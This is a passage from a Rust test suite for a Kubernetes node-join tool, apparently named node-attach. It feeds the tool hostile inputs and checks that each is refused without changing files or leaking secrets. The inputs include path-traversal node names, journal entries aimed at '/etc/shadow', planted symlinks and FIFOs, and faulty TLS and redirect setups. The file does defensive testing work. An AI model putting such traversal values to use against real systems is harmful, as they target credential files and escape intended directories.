                r#"{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"kubelet-config"},"data":{"kubelet":"a: 1"},"data":{"kubelet":"b: 2"}}"#.into()
            },
        ),
    ]
}

/// Node names, the root, and what sits at the paths join and reset touch.
fn names_and_paths() -> Vec<Case> {
    vec![
        case(
            "names and paths",
            "node name with uppercase",
            2,
            "node name",
            |ctx| scale_with(ctx, "--node-name", "Evil_Node"),
        ),
        case(
            "names and paths",
            "node name with a slash",
            2,
            "node name",
            |ctx| scale_with(ctx, "--node-name", "../../etc"),
        ),
        case(
            "names and paths",
            "node name with a newline",
            2,
            "node name",
            |ctx| scale_with(ctx, "--node-name", "node\nx"),
        ),
        case(
            "names and paths",
            "node name too long",
            2,
            "node name",
            |ctx| scale_with(ctx, "--node-name", &"a".repeat(254)),
        ),
        case(
            "names and paths",
            "/etc in the root is a symlink",
            70,
            "symbolic link",
            |ctx| {
                std::os::unix::fs::symlink(ctx.outside, ctx.node.path("/etc")).expect("symlink");
                scale(ctx, &[])
            },
        ),
        case(
            "names and paths",
            "the state directory is a symlink",
            70,
            "symbolic link",
            |ctx| {
                mkdirs(ctx, "/var/lib");
                std::os::unix::fs::symlink(ctx.outside, ctx.node.path("/var/lib/node-attach"))
                    .expect("symlink");
                scale(ctx, &[])
            },
        ),
        case(
            "names and paths",
            "a FIFO where join writes daemon.json",
            70,
            "fifo",
            |ctx| {
                mkdirs(ctx, "/etc/docker");
                mkfifo(&ctx.node.path("/etc/docker/daemon.json"));
                scale(ctx, &[])
            },
        ),
        case(
            "names and paths",
            "a FIFO where join writes daemon.json, dry run",
            70,
            "fifo",
            |ctx| {
                mkdirs(ctx, "/etc/docker");
                mkfifo(&ctx.node.path("/etc/docker/daemon.json"));
                scale(ctx, &["--dry-run"])
            },
        ),
        case(
            "names and paths",
            "a directory where join writes kubelet.conf",
            70,
            "directory",
            |ctx| {
                mkdirs(ctx, "/etc/kubernetes/kubelet.conf");
                scale(ctx, &[])
            },
        ),
        case(
            "names and paths",
            "the root is a file",
            70,
            "Not a directory",
            |ctx| {
                let file = ctx.scratch.join("root-file");
                std::fs::write(&file, "x").expect("file");
                scale_with(ctx, "--root", &file.display().to_string())
            },
        ),
        joined_reset(
            "names and paths",
            "a journaled directory swapped for a symlink",
            80,
            "symbolic link",
            |ctx| replace_with_link(ctx, "/etc/docker"),
        )
        .tree(Tree::Kept(&["etc/docker"])),
        joined_reset(
            "names and paths",
            "a journaled file swapped for a FIFO",
            80,
            "fifo",
            |ctx| {
                let p = ctx.node.path("/etc/docker/daemon.json");
                std::fs::remove_file(&p).expect("rm");
                mkfifo(&p);
            },
        )
        .tree(Tree::Kept(&["etc/docker/daemon.json"])),
    ]
}

/// A tampered journal, on a copy of a joined node.
fn journal() -> Vec<Case> {
    vec![
        journal_line(
            "a path with ..",
            72,
            "not a clean absolute path",
            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/../../outside","prior":null}}"#,
        ),
        journal_line(
            "a relative path",
            72,
            "not a clean absolute path",
            r#"{"seq":900,"event":"begin","change":{"kind":"dir","path":"etc/x"}}"#,
        ),
        journal_line(
            "an absolute backup name",
            72,
            "not a node-attach backup",
            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/hosts","prior":{"mode":420,"backup":"/etc/shadow"}}}"#,
        ),
        journal_line(
            "a backup name climbing out",
            72,
            "not a node-attach backup",
            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/hosts","prior":{"mode":420,"backup":"../../../etc/shadow"}}}"#,
        ),
        journal_line(
            "a symlink restored out of the root",
            72,
            "not a clean absolute path",
            r#"{"seq":900,"event":"begin","change":{"kind":"symlink","path":"/../x","prior":"/etc/shadow"}}"#,
        ),
        joined_reset(
            "journal",
            "a damaged line in the middle",
            0,
            "journal is damaged",
            |ctx| {
                let path = ctx.node.path(JOURNAL);
                let text = std::fs::read_to_string(&path).expect("journal");
                let mut lines: Vec<&str> = text.lines().collect();
                lines[3] = "{\"seq\": 4, \"event\": \"begi";
                std::fs::write(&path, lines.join("\n") + "\n").expect("damage");
            },
        )
        // Join's own files stay: only the documented Kubernetes paths are cleaned.
        .tree(Tree::Kept(&[
            "etc/docker/daemon.json",
            "etc/systemd/system/kubelet.service",
        ])),
        case(
            "journal",
            "join over a damaged journal",
            70,
            "damaged",
            |ctx| {
                joined_copy(ctx);
                let path = ctx.node.path(JOURNAL);
                let text = std::fs::read_to_string(&path).expect("journal");
                std::fs::write(&path, format!("garbage\n{text}")).expect("damage");
                scale(ctx, &[])
            },
        ),
        joined_reset(
            "journal",
            "the journal is a symlink out of the root",
            72,
            "journal",
            |ctx| {
                let path = ctx.node.path(JOURNAL);
                std::fs::copy(&path, ctx.outside.join("journal.jsonl")).expect("copy");
                std::fs::remove_file(&path).expect("rm");
                std::os::unix::fs::symlink(ctx.outside.join("journal.jsonl"), &path).expect("link");
            },
        ),
        joined_reset("journal", "the journal is a FIFO", 72, "fifo", |ctx| {
            let path = ctx.node.path(JOURNAL);
            std::fs::remove_file(&path).expect("rm");
            mkfifo(&path);
        }),
    ]
}

/// Networks that fail or lie.
fn network() -> Vec<Case> {
    vec![
        case(
            "network",
            "unreachable endpoint",
            20,
            "cannot reach the API server",
            |ctx| {
                let mut a = scale_with(ctx, "--endpoint", "127.0.0.1:1");
                let at = a
                    .iter()
                    .position(|x| x == "--discovery-timeout")
                    .expect("flag")
                    + 1;
                a[at] = "2s".into();
                a
            },
        ),
        case(
            "network",
            "TLS from a foreign CA",
            25,
            "pinned cluster CA",
            |ctx| {
                ctx.cp.set_faults(|f| f.foreign_serving_cert = true);
                scale(ctx, &[])
            },
        ),
        // The stand-in counts handshakes from its start: a control plane of its own.
        case(
            "network",
            "serving certificate swapped mid-join",
            35,
            "trust.server-changed",
            |ctx| {
                ctx.cp.set_faults(|f: &mut Faults| {
                    f.foreign_serving_cert_after = Some(1);
                    f.close_connections = true;
                });
                scale(ctx, &[])
            },
        )
        .fresh(),
        case(
            "network",
            "values service unreachable",
            10,
            "cannot fetch cluster values",
            |ctx| {
                let mut a = openapi(ctx, "json", &[]);
                let at = a.iter().position(|x| x == "--values-url").expect("flag") + 1;
                a[at] = "https://127.0.0.1:1/v1/values/{token}".into();
                a
            },
        ),
        case(
            "network",
            "values over TLS from another CA",
            10,
            "cannot fetch cluster values",
            |ctx| {
                let mut a = openapi(ctx, "json", &[]);
                let other = test_control_plane::pki::Ca::new("kubernetes");
                let ca = write(ctx.scratch, "other-ca.pem", other.cert_pem());
                let at = a
                    .iter()
                    .position(|x| x == "--values-ca-file")
                    .expect("flag")
                    + 1;
                a[at] = ca.display().to_string();
                a
            },
        ),
        case("network", "values redirected", 10, "redirect", |ctx| {
            ctx.cp
                .set_faults(|f| f.values_redirect = Some("https://127.0.0.1:1/elsewhere".into()));
            openapi(ctx, "json", &[])
        }),
        case(
            "network",
            "values token refused",
            11,
            "refused the openapi token",
            |ctx| {
                ctx.cp.set_faults(|f| {
                    f.values_script.push_back(Scripted {
                        status: 404,
                        retry_after: None,
                        body: format!("no such token {OPENAPI}"),
                    })
                });
                openapi(ctx, "json", &[])
            },
        ),
    ]
}

/// A root that one successful join left (journal, kubelet.conf, a certificate), for the reset
/// cases to copy.
fn joined_template(cp: &TestControlPlane) -> Node {
    let mut node = Node::new();
    node.kubelet();
    let run = crate::join::join(&scale_out(cp, &node, "hostile-joined"), &[]);
    run.expect_code(0);
    node
}

/// Runs one case; returns what went wrong.
fn run_case(i: usize, case: &Case, cp: &TestControlPlane, joined: &Path) -> Vec<String> {
    let node = Node::new();
    let outside = tempfile::tempdir().expect("outside");
    std::fs::write(outside.path().join("precious"), "keep\n").expect("canary");
    let scratch = tempfile::tempdir().expect("scratch");
    let ctx = Ctx {
        cp,
        node: &node,
        name: format!("hostile-{i}"),
        outside: outside.path(),
        scratch: scratch.path(),
        joined,
    };
    let args = (case.setup)(&ctx);
    let before = tree_with_bytes(node.dir.path());
    let outside_before = tree_with_bytes(outside.path());
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = run_with(&argv, &[], Duration::from_secs(60));
    let mut wrong = Vec::new();
    if run.code != case.code {
        wrong.push(format!("exited {} (expected {})", run.code, case.code));
    }
    if !run.all().contains(case.message) {
        wrong.push(format!("no {:?} in the output", case.message));
    }
    // The token format's documented example happens to be the tests' token: the message
    // that quotes it is not a leak.
    let printed = run.all().replace(
        "for example abcdef.0123456789abcdef",
        "for example <the format>",
    );
    for s in [SECRET, OPENAPI].iter().chain(&case.secrets) {
        if printed.contains(s) {
            wrong.push(format!("{s:?} was printed"));
        }
    }
    if tree_with_bytes(outside.path()) != outside_before {
        wrong.push("a file outside the root was written".into());
    }
    let after = tree_with_bytes(node.dir.path());
    match case.tree {
        Tree::Unchanged => {
            if after != before {
                wrong.push(format!("the tree changed:\n{}", tree_diff(&before, &after)));
            }
        }
        Tree::ResetRestores => {
            for p in [
                "etc/kubernetes/kubelet.conf",
                "var/lib/kubelet/pki/kubelet-client-current.pem",
            ] {
                if node.path(p).symlink_metadata().is_ok() {
                    wrong.push(format!("{p} was written"));
                }
            }
            let reset = run_with(
                &["reset", "--root", &node.root()],
                &[],
                Duration::from_secs(60),
            );
            let restored = tree_with_bytes(node.dir.path());
            if reset.code != 0 || restored != before {
                wrong.push(format!(
                    "reset (exit {}) did not restore the tree:\n{}",
                    reset.code,
                    tree_diff(&before, &restored)
                ));
            }
        }
        Tree::Kept(paths) => {
            for p in paths {
                let pick =
                    |t: &[(String, u32, Vec<u8>)]| t.iter().find(|(q, _, _)| q == p).cloned();
                if pick(&before) != pick(&after) {
                    wrong.push(format!("{p} was changed or removed"));
                }
            }
        }
    }
    if !wrong.is_empty() {
        wrong.insert(
            0,
            format!(
                "[{}] {}: node-attach {:?}\n--- stdout\n{}\n--- stderr\n{}",
                case.area, case.name, run.args, run.stdout, run.stderr
            ),
        );
    }
    wrong
}

/// The entries that differ, for a failure message.
fn tree_diff(a: &[(String, u32, Vec<u8>)], b: &[(String, u32, Vec<u8>)]) -> String {
    let mut out = String::new();
    for e in a.iter().filter(|e| !b.contains(e)) {
        out.push_str(&format!("  - {} ({:o})\n", e.0, e.1));
    }
    for e in b.iter().filter(|e| !a.contains(e)) {
        out.push_str(&format!("  + {} ({:o})\n", e.0, e.1));
    }
    out
}

#[test]
fn hostile_input_is_refused_with_its_code_and_changes_nothing() {
    let shared = control_plane();
    let joined = joined_template(&shared);
    let cases = cases();
    assert!(cases.len() >= 60, "{} cases", cases.len());
    let mut failures = Vec::new();
    let mut by_area: std::collections::BTreeMap<&str, usize> = Default::default();
    for (i, case) in cases.iter().enumerate() {
        *by_area.entry(case.area).or_default() += 1;
        let started = std::time::Instant::now();
        let wrong = match case.plane {
            Plane::Shared => {
                let wrong = run_case(i, case, &shared, joined.dir.path());
                shared.set_faults(|f| *f = Faults::default());
                shared.set_approval(Approval::Auto);
                wrong
            }
            Plane::Fresh => run_case(i, case, &control_plane(), joined.dir.path()),
        };
        eprintln!(
            "hostile {i:3} [{}] {}: {} ({} ms)",
            case.area,
            case.name,
            if wrong.is_empty() { "ok" } else { "FAILED" },
            started.elapsed().as_millis()
        );
        failures.extend(wrong);
    }
    eprintln!("hostile cases by area: {by_area:?}");
    assert!(
        failures.is_empty(),
        "{} problems:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}
